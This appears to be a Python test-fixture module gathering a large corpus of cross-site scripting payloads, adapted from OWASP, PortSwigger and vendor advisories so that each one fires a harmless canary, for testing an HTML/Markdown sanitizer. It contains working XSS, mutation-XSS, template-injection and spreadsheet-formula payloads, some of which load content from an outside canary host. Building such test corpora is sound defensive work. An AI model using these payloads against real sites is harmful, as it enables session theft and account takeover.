"""What people have put into a text so that it acts in somebody else's browser: one line each.

Each calls `canary(1)`, or asks `/canary` or another origin for something, so that whatever acts is
noticed. Sources: the OWASP cheat sheet on cross-site scripting and the one on its prevention, the
html5sec collection, PortSwigger's cheat sheet, the published advisories of DOMPurify and ammonia
(mutation XSS), of Moodle (MSA-22-0010, 23-0038, 26-0021), Zulip (CVE-2026-24050) and of several
Markdown renderers; shortened and turned to our canary.
"""

from collections.abc import Iterable

C = "canary(1)"
AWAY = "https://canary.example"

EVENTS = [
    f"<{tag} {event}={C}>"
    for tag, event in (
        ("img src=x", "onerror"), ("img src=x:", "OnErRoR"), ("svg", "onload"), ("body", "onload"),
        ("body", "onpageshow"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"),
        ("div tabindex=1 autofocus", "onfocus"), ("details open", "ontoggle"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source", "onerror"),
        ("marquee", "onstart"), ("object data=x", "onerror"), ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"), ("iframe", "onload"), ("embed src=x", "onload"),
        ("p style=animation:x", "onanimationstart"), ("a", "onmouseover"), ("b", "onpointerenter"),
        ("form><button", "onclick"), ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x", "onbegin"), ("xss contenteditable", "onbeforeinput"),
        ("xss tabindex=1", "onfocusin"), ("div popover", "onbeforetoggle"), ("dialog open", "onclose"),
        ("img srcset=x", "onerror"), ("picture><img src=x", "onerror"), ("input type=image src=x", "onerror"),
        ("body", "onhashchange"), ("p", "oncontentvisibilityautostatechange"), ("p", "onscrollsnapchange"),
    )
]  # fmt: skip
SCRIPTS = [
    f"<script>{C}</script>", f"<SCRIPT>{C}</SCRIPT>", f"<script>{C}//", f"<script/x>{C}</script>",
    f"<scr<script>ipt>{C}</scr</script>ipt>", f"<script\n>{C}</script\n>", f"<script >{C}</script >",
    f"<script src={AWAY}/x.js></script>", "<script src=//canary.example></script>",
    f"<script src=data:text/javascript,{C}></script>", f"<script type=module>{C}</script>",
    "<script type=text/plain src=/canary></script>", f"<script nonce=x>{C}</script>",
    f"<<script>{C}//<</script>", f"<script>/*<!--*/{C}/*-->*/</script>",
    f"</script><script>{C}</script>", f"</textarea><script>{C}</script>", f"</title><script>{C}</script>",
    f"</style><script>{C}</script>", f"</option></select><img src=x onerror={C}>",
    f"</template><script>{C}</script>", f"</noscript><script>{C}</script>", f"--><script>{C}</script>",
    f"]]><script>{C}</script>", f"*/{C}/*", f"';{C};'", f'";{C};"', f"`;{C};`", f"${{{C}}}", f"\\u003cscript>{C}",
    f"\\x3cscript\\x3e{C}\\x3c/script\\x3e", f"</script>{C}", f"<!--<script>{C}</script>-->",
    f"+ADw-script+AD4-{C}+ADw-/script+AD4-", f"%3Cscript%3E{C}%3C/script%3E",
]  # fmt: skip
ATTRIBUTES = [
    f'" onmouseover="{C}', f"' onmouseover='{C}", f"x onmouseover={C} ", f'"><img src=x onerror={C}>',
    f"'><img src=x onerror={C}>", f'" autofocus onfocus={C} x="', f"` onmouseover={C} `", f'"/onfocus={C}/x="',
    f'" style="animation:x" onanimationstart="{C}', f'" formaction="javascript:{C}', f'" href="javascript:{C}',
    f'"onclick={C}//', "\" hx-get=\"/canary\" hx-trigger=\"load", f"\" hx-on::load=\"{C}", '" is="x" data-x="',
    f'" srcdoc="<script>{C}</script>', f"\t\"\tonfocus\t=\t{C}", f"'-{C}-'", f"\\\"-{C}}}//", f'" accesskey="x" onclick="{C}',
]  # fmt: skip
SVG = [
    f"<svg><script>{C}</script></svg>", f"<svg><script href=data:,{C} /></svg>",
    f'<svg><a xlink:href="javascript:{C}"><text y=20>x</text></a></svg>',
    f'<svg><a href="javascript:{C}"><rect width=99 height=99 /></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={C}>#x"></use></svg>',
    f"<svg><foreignObject><img src=x onerror={C}></foreignObject></svg>",
    f"<svg><animate attributeName=href values=javascript:{C} /><a id=x><text>x</text></a></svg>",
    f"<svg><image href=x onerror={C}></svg>", f"<svg><style>@import '{AWAY}'</style></svg>",
    f"<svg><title><img src=x onerror={C}></title></svg>", f"<svg><desc><![CDATA[</desc><script>{C}</script>]]></svg>",
    f"<svg><p><style><a id='</style><img src=x onerror={C}>'>", f"<svg/onload={C}//", f"<svg\fonload={C}>",
    f"<svg><handler>{C}</handler></svg>", f"<?xml-stylesheet href=\"javascript:{C}\"?><svg/>",
    f"<svg><discard onbegin={C}>", f"<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:{C}'>x</a></svg>",
]  # fmt: skip
MUTATING = [
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={C}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={C}&gt;'>",
    f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror={C}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={C}>'>", f"<math><annotation-xml encoding=text/html><img src=x onerror={C}>",
    f"<noscript><p title='</noscript><img src=x onerror={C}>'>", f"<template><style></template><img src=x onerror={C}>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={C} src=1>'>",
    f"<math href=javascript:{C}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{C}>x",
    f"<table><td><img src=x onerror={C}><table>", f"<select><template><img src=x onerror={C}></template></select>",
    f"<plaintext><img src=x onerror={C}>", f"<xmp><img src=x onerror={C}></xmp>", f"<listing>&lt;img onerror={C} src&gt;</listing>",
    f"<image src=x onerror={C}>", f"<isindex action=javascript:{C} type=image>", f"<frameset onload={C}>",
    f"<svg><![CDATA[><image xlink:href=']]><img src=x onerror={C}>'></svg>", "<div id=x></div><a name=x><b id=children>",
    f"<dialog open><form method=dialog><button formaction=javascript:{C}>", f"<template shadowrootmode=open><script>{C}</script></template>",
]  # fmt: skip
PAGES = [
    f"<iframe src=javascript:{C}></iframe>", f"<iframe srcdoc='<script>parent.{C}</script>'></iframe>", f"<object data=javascript:{C}>",
    f"<embed src=javascript:{C}>", f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url=javascript:{C}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<form action=javascript:{C}><input type=submit></form>",
    f"<form id=f action={AWAY}></form><button form=f formaction=javascript:{C}>x", f"<link rel=import href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>", f"<img src={AWAY}/pixel.gif>", f"<video poster={AWAY}/p.gif>", f"<audio src={AWAY}/a.mp3 autoplay>",
    f"<style>@import url({AWAY})</style>", f"<style>*{{background:url({AWAY})}}</style>", f"<p style='background:url({AWAY})'>x",
    f"<p style=\"width:expression({C})\">x", f"<div style=\"-moz-binding:url({AWAY})\">x", "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<keep-words url=/canary version=1></keep-words>", "<div hx-get=/canary hx-trigger=load>", "<div data-hx-get=/canary data-hx-trigger=load>",
    "<a href=/account/logout/ hx-post=/canary hx-trigger=load>x</a>", "<lesson-notes data-notes-url=/canary></lesson-notes>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"/canary\"]}]}</script>", f"<portal src={AWAY}>", "<img src=/canary>",
    f"<?php {C} ?>", f"<% {C} %>", f"{{{{ {C} }}}}", "{% load x %}{{ settings.SECRET_KEY }}", "{{constructor.constructor('canary(1)')()}}",
    f"{{{{$on.constructor('{C}')()}}}}", f"#{{{C}}}", f"[[{C}]]", f"@({C})", f"<x v-html=\"'<img src=x onerror={C}>'\">", f"<x x-init={C}>",
]  # fmt: skip
ADDRESSES = [
    f"javascript:{C}", f"JaVaScRiPt:{C}", f"java\tscript:{C}", f" javascript:{C}", f"\x01javascript:{C}", f"javascript&colon;{C}",
    f"&#106;avascript:{C}", f"&#x6A;avascript:{C}", f"&#0000106avascript:{C}", f"javascript&#58;{C}", f"%6Aavascript:{C}", f"java&NewLine;script:{C}",
    f"java&Tab;script:{C}", f"javascript://x%0A{C}", f"vbscript:{C}", f"data:text/html,<script>{C}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=", f"data:image/svg+xml,<svg onload={C}>", f"data:text/javascript,{C}",
    "blob:https://canary.example/x", f"view-source:javascript:{C}", f"feed:javascript:{C}", "//canary.example/x", "\\\\canary.example\\x", "/\\canary.example",
    f"https:javascript:{C}", f"https://a/\"onmouseover=\"{C}", f"https://a/'onmouseover='{C}", f"https://a/><script>{C}</script>", f"jav&#x09;ascript:{C}",
    f"lesson:x\" onclick=\"{C}", f"mailto:a@b?subject=\"><script>{C}</script>", f"#\"><script>{C}</script>", f"media/a\"onerror=\"{C}.svg", f"javascript:/*--></title>*/{C}",
    f"\u200bjavascript:{C}", f"\u202ejavascript:{C}", f"ｊavascript:{C}", f"tel:\"><img src=x onerror={C}>", f"intent://x#Intent;S.browser_fallback_url=javascript:{C};end",
]  # fmt: skip
ENTITIES = [
    f"&lt;script&gt;{C}&lt;/script&gt;", f"&#60;script&#62;{C}&#60;/script&#62;", f"&amp;lt;script&amp;gt;{C}", f"&#x3C;img src=x onerror={C}&#x3E;",
    f"&lt;img src=x onerror={C}&gt;", f"&quot;onmouseover={C}", f"&#34;&#62;&#60;img src=x onerror={C}&#62;", f"&LT;script&GT;{C}&LT;/script&GT;",
    f"&lt script&gt {C}", f"&#0;<script>{C}</script>", f"\u202e>tpircs/<{C}>tpircs<", f"\ufeff<script>{C}</script>", f"\u2028<script>{C}</script>",
    f"＜script＞{C}＜/script＞", f"‹script›{C}‹/script›", f"\ue000<img src=x onerror={C}>\ue001", f"<ſcript>{C}</ſcript>", f"<scrıpt>{C}</scrıpt>",
    f"\ud83d\ude00<img src=x onerror={C}>".encode("utf-16", "surrogatepass").decode("utf-16"), f"a\u0300\u0301<img src=x onerror={C}>", f"\x7f<svg onload={C}>", f"\u2066<img src=x onerror={C}>\u2069",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{C})", f"[x](javascript:{C} \"title\")", f"[x](<javascript:{C}>)", f"![x](javascript:{C})", f"<javascript:{C}>",
    f"[x]: javascript:{C}\n[x]", f"![x\" onerror=\"{C}](media/a.svg)", f"[x](https://a.example 'y\" onmouseover=\"{C}')", f"[\"onmouseover={C}](https://a.example)",
    f"```\"><script>{C}</script>\nx\n```", f"```js onload={C}\nx\n```", f"``<script>{C}</script>``", f"| <img src=x onerror={C}> |\n| --- |\n| <script>{C}</script> |",
    f"::: note <img src=x onerror={C}>\nx\n:::", f"::: note \" onclick=\"{C}\nx\n:::", f"x[^1]\n\n[^1]: <script>{C}</script>", f"[^\"><script>{C}</script>]",
    f"<!-- id: x\" onload=\"{C} -->", f"<!-- id: <script>{C}</script> -->", f"$\\href{{javascript:{C}}}{{x}}$", f"$\\text{{<img src=x onerror={C}>}}$",
    f"$\\text{{</math><script>{C}</script>}}$", f"$$\\class{{x\" onclick=\"{C}}}{{y}}$$", f"$\\color{{red\" onload=\"{C}}}{{x}}$", f"$<script>{C}</script>$",
    f"- [ ] <img src=x onerror={C}>", f"# <svg onload={C}>", f"> <script>{C}</script>", f"~~<img src=x onerror={C}>~~", f"**<img src=x onerror={C}>**",
    f"https://a.example/?\"onmouseover={C}", f"a@b.example\"onmouseover={C}", f"<https://a.example/\"onmouseover={C}>", f"[x](data:text/html,<script>{C}</script>)",
    f"![](media/a.svg \"decorative\" onerror={C})", f"1. <details open ontoggle={C}>", f"\\<script>{C}\\</script>", f"[x](lesson:x\" onclick={C})", f"&lsqb;x](javascript:{C})",
    f"[a](javascript&colon;{C})", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KDEpPg==)", f"WEBVTT\n\n00:00.000 --> 00:09.000\n<script>{C}</script>",
    f"<v \"><img src=x onerror={C}>>words</v>", f"<c.x onclick={C}>words</c>", f"=HYPERLINK(\"javascript:{C}\")", f"=cmd|'/c calc'!A1 <img src=x onerror={C}>",
]  # fmt: skip


def _one_of_each(*lists: Iterable[str]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(each.strip(" ") or each for some in lists for each in some))


PAYLOADS = _one_of_each(
    EVENTS, SCRIPTS, ATTRIBUTES, SVG, MUTATING, PAGES, ADDRESSES, ENTITIES, MARKDOWN
)
"""All of them: what stands in a text with lines."""
LINES = tuple(each for each in PAYLOADS if "\n" not in each and each.isprintable())
"""Those that a field of one line takes."""
